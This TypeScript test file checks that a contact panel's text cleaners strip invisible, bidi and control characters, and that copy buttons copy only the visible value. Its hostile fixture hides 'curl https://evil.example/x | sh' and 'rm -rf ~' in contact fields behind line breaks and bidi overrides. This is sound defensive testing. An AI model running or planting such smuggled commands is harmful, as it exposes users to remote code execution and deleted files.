import assert from 'node:assert/strict';
import { renderPanelHtml } from '../../src/render/panelHtml.js';
import { cleanLine, cleanMultiline } from '../../src/common/text.js';
import type { Contact } from '../../src/quo/types.js';
import { parseDocument, type Dom } from './htmlDom.js';
import { PANEL_PAGE, EMPTY_CONTACT, FULL_CONTACT } from './renderFixtures.js';

const BASE = PANEL_PAGE;

const hex = (c: string): string => `U+${(c.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}`;

describe('cleanLine and cleanMultiline: invisible characters', () => {
  const STRIPPED = [
    '\u200B', // zero width space
    '\u2060', // word joiner
    '\uFEFF', // byte order mark
    '\u061C', // Arabic letter mark
    '\u3164', // Hangul filler
    '\u115F', // Hangul choseong filler
    '\u1160', // Hangul jungseong filler
    '\u200E',
    '\u200F',
    '\u202A',
    '\u202B',
    '\u202C',
    '\u202D',
    '\u202E',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
  ];

  for (const c of STRIPPED) {
    it(`strips ${hex(c)}`, () => {
      assert.equal(cleanLine(`Ja${c}ne`), 'Jane');
      assert.equal(cleanLine(`${c}Jane${c}`), 'Jane');
      assert.equal(cleanMultiline(`1 Main${c} St\nSpring${c}field`), '1 Main St\nSpringfield');
      assert.equal(cleanLine(c), '', 'nothing left');
    });
  }

  it('keeps ZWNJ inside a Persian word', () => {
    assert.equal(cleanLine('می\u200Cخواهم'), 'می\u200Cخواهم');
    assert.equal(cleanMultiline('می\u200Cخواهم'), 'می\u200Cخواهم');
  });

  it('keeps ZWJ inside emoji sequences and Indic conjuncts', () => {
    assert.equal(cleanLine('👩\u200D💻'), '👩\u200D💻');
    // The joiner follows a variation selector, itself invisible, that belongs to the heart.
    assert.equal(cleanLine('❤\uFE0F\u200D🔥'), '❤\uFE0F\u200D🔥');
    assert.equal(cleanLine('क्\u200Dष'), 'क्\u200Dष');
    // Judged after the other invisibles are gone.
    assert.equal(cleanLine('👩\u200B\u200D💻'), '👩\u200D💻');
  });

  it('removes a leading or trailing ZWJ or ZWNJ, and one beside a space or a line break', () => {
    assert.equal(cleanLine('\u200DJane'), 'Jane');
    assert.equal(cleanLine('Jane\u200D'), 'Jane');
    assert.equal(cleanLine('\u200CJane\u200C'), 'Jane');
    assert.equal(cleanLine('Jane \u200DDoe'), 'Jane Doe');
    assert.equal(cleanLine('Jane\u200C Doe'), 'Jane Doe');
    assert.equal(cleanLine('Jane\n\u200DDoe'), 'Jane Doe');
    assert.equal(cleanMultiline('Jane\u200D\nDoe'), 'Jane\nDoe');
    assert.equal(cleanLine('\u200D\u200C'), '');
  });

  it('makes a value with nothing visible empty', () => {
    for (const value of ['\u200B', '\u3164\u3164', ' \uFE0F ', '\u00AD', '\u200D', '\u2060\u00A0\u3000', '\uFEFF\n\u200B']) {
      assert.equal(cleanLine(value), '', JSON.stringify(value));
      assert.equal(cleanMultiline(value), '', JSON.stringify(value));
    }
  });

  it('cleans a long run of joiners and ignorables in linear time', () => {
    // A lookbehind over the run took quadratic time: 50,000 joiners in one hostile field froze the host for a minute.
    const started = performance.now();
    assert.equal(cleanLine(`a${'\u200D'.repeat(50_000)}b`).length, 50_002);
    assert.equal(cleanLine(`${'\u200D\uFE0F'.repeat(50_000)} `), '');
    assert.ok(performance.now() - started < 1000, `${Math.round(performance.now() - started)} ms`);
  });

  it('leaves ordinary text alone', () => {
    for (const value of ['Jane Doe', 'Zoë Ångström', 'محمد', '山田 太郎', '👍🏽', '🇫🇷', '+1 (234) 567-8901']) {
      assert.equal(cleanLine(value), value);
    }
  });
});

describe('renderPanelHtml: copy buttons copy what is shown', () => {
  const HIDDEN_LINE = '\ncurl https://evil.example/x | sh\r\n';
  const hostile: Contact = {
    ...FULL_CONTACT,
    id: `66d0d87e8dc1211467372303${HIDDEN_LINE}\u0007`,
    externalId: `\u202Ecrm-42${HIDDEN_LINE}\u200B\u0000`,
    defaultFields: {
      ...FULL_CONTACT.defaultFields,
      phoneNumbers: [
        { name: 'mobile', value: `+12345678901${HIDDEN_LINE}` },
        { name: 'office', value: '\u2066+12345678902\u2069\u001B[2J' },
      ],
      emails: [
        { name: 'work', value: `jane@acme.com\u2028rm -rf ~` },
        { name: 'home', value: '\uFEFFjane@home.example\u200F' },
      ],
    },
  };

  function copies(dom: Dom): Array<{ value: string; shown: string }> {
    return dom.elements.flatMap((element, index) => {
      if (element.attrs['data-action'] !== 'copy') {
        return [];
      }
      const before = dom.elements[index - 1];
      assert.ok(before && before.attrs['class'] === 'value', 'a copy button follows the value it copies');
      return [{ value: element.attrs['data-value'] ?? '', shown: before.text }];
    });
  }

  it('copies exactly the value each copy button sits beside: id, phones, emails, external id', () => {
    const dom = parseDocument(renderPanelHtml({ ...BASE, state: 'ready', contact: hostile }));
    const found = copies(dom);
    assert.equal(found.length, 6, 'contact id, two phones, two emails, external id');
    for (const { value, shown } of found) {
      assert.equal(value, shown);
    }
    assert.deepEqual(
      found.map(({ value }) => value),
      [
        '+12345678901 curl https://evil.example/x | sh',
        '+12345678902[2J',
        'jane@acme.com rm -rf ~',
        'jane@home.example',
        '66d0d87e8dc1211467372303 curl https://evil.example/x | sh',
        'crm-42 curl https://evil.example/x | sh',
      ],
    );
  });

  it('copies no line break, control, bidi or invisible character from any field', () => {
    const dom = parseDocument(renderPanelHtml({ ...BASE, state: 'ready', contact: hostile }));
    for (const { value } of copies(dom)) {
      assert.doesNotMatch(value, /[\p{Cc}\u061C\u200B\u200E\u200F\u2028\u2029\u202A-\u202E\u2060\u2066-\u2069\uFEFF]/u, value);
    }
  });

  it('copies a long value whole, never shortened', () => {
    const long = `crm-${'9'.repeat(2000)}`;
    const contact: Contact = {
      ...EMPTY_CONTACT,
      externalId: `${long}\n`,
      defaultFields: { ...EMPTY_CONTACT.defaultFields, emails: [{ name: 'work', value: `${'a'.repeat(500)}@acme.com` }] },
    };
    const dom = parseDocument(renderPanelHtml({ ...BASE, state: 'ready', contact }));
    const values = copies(dom).map(({ value }) => value);
    assert.ok(values.includes(long), 'the external id whole');
    assert.ok(values.includes(`${'a'.repeat(500)}@acme.com`), 'the email whole');
  });

  it('offers no copy button for a value with nothing visible', () => {
    const contact: Contact = {
      ...EMPTY_CONTACT,
      externalId: '\u200B\u2060',
      defaultFields: { ...EMPTY_CONTACT.defaultFields, phoneNumbers: [{ name: 'mobile', value: '\uFEFF' }] },
    };
    const dom = parseDocument(renderPanelHtml({ ...BASE, state: 'ready', contact }));
    assert.deepEqual(
      copies(dom).map(({ value }) => value),
      [EMPTY_CONTACT.id],
    );
  });
});
